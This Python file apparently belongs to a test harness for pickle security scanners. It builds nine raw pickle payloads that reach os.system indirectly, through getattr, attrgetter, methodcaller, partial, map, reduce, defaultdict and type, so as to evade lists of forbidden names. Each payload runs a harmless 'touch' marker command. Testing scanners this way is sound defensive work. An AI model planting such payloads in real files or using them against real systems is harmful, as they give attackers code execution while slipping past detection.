"""Ways to a function whose name a list of forbidden names does not have: attributes of attributes, and functions that call."""

from attacks.attack import Attack, main
from attacks.writing import call, pickled, text

ATTACKS = [
    Attack("getattr of an imported module", lambda marker: pickled(
        call("builtins.getattr", call("importlib.import_module", text("os")), text("system"))
        + text(f"touch {marker}") + b"\x85R")),
    Attack("getattr of a harmless function's globals", lambda marker: pickled(
        call("builtins.getattr", b"cargparse\nNamespace\n", text("__init__"))
        + b"q\x000" + call("builtins.getattr", b"h\x00", text("__globals__")) + text("os") + b"\x85R"
        + text(f"touch {marker}") + b"\x85R")),
    Attack("attrgetter", lambda marker: pickled(
        call("operator.attrgetter", text("system")) + b"(cos\npath\ntR" + text(f"touch {marker}") + b"\x85R")),
    Attack("methodcaller", lambda marker: pickled(
        call("operator.methodcaller", text("system"), text(f"touch {marker}")) + b"(cposixpath\nos\ntR")),
    Attack("partial", lambda marker: pickled(
        call("functools.partial", b"cposix\nsystem\n", text(f"touch {marker}")) + b")R")),
    Attack("map and list", lambda marker: pickled(
        call("builtins.list", call("builtins.map", b"cposix\nsystem\n", b"]" + text(f"touch {marker}") + b"a")))),
    Attack("reduce", lambda marker: pickled(
        call("functools.reduce", b"cposix\nsystem\n", b"]" + text(f"touch {marker}") + b"a"))),
    Attack("a default factory", lambda marker: pickled(
        call("collections.defaultdict", b"cposix\nsystem\n") + text("x") + text(f"touch {marker}") + b"s")),
    Attack("a class made by type", lambda marker: pickled(
        call("builtins.type", text("X"), b")", b"}" + text("__reduce__") + b"cposix\nsystem\ns") + b")R")),
]  # fmt: skip

if __name__ == "__main__":
    main(ATTACKS)
